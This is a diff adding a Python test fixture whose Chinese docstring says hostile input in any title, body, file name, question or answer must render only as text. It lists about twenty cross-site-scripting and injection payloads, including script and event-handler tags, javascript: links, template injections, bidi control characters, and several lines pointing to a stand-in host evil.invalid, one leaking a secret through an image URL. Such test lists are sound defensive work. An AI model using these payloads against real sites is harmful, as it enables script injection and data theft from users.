@@ -1,0 +1,26 @@
+"""别有用心的文字：放进题目、正文、文件名、问题、回答的任何一处，页面上都只能是文字。"""
+
+HOSTILE = [
+    "<script>window.pwned=1</script>",
+    "<img src=x onerror=window.pwned=1>",
+    "<svg onload=window.pwned=1>",
+    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
+    "<a href='javascript:window.pwned=1'>点我</a>",
+    "<details open ontoggle=window.pwned=1>",
+    "<form action=http://evil.invalid/><input name=q></form>",
+    "<style>body{display:none}</style>",
+    "<meta http-equiv=refresh content='0;url=http://evil.invalid/'>",
+    "![图](http://evil.invalid/leak?q=secret)",
+    "[看这里](javascript:window.pwned=1)",
+    '"><b onmouseover="window.pwned=1">',
+    "' onfocus='window.pwned=1' autofocus='",
+    "</p></div></section><h1>官方公告</h1>",
+    "${(window.pwned=1)}",
+    "{{constructor.constructor('window.pwned=1')()}}",
+    "`${window.pwned=1}`",
+    "&lt;script&gt;window.pwned=1&lt;/script&gt;",
+    "<!-- --><![CDATA[<script>window.pwned=1</script>]]>",
+    "\u202e告公方官\u202c 市民政局\x00\x1b[31m\u2066",
+    "<math><mtext></table><mglyph><style><img src=x onerror=window.pwned=1>",
+    "<base href=http://evil.invalid/>",
+]
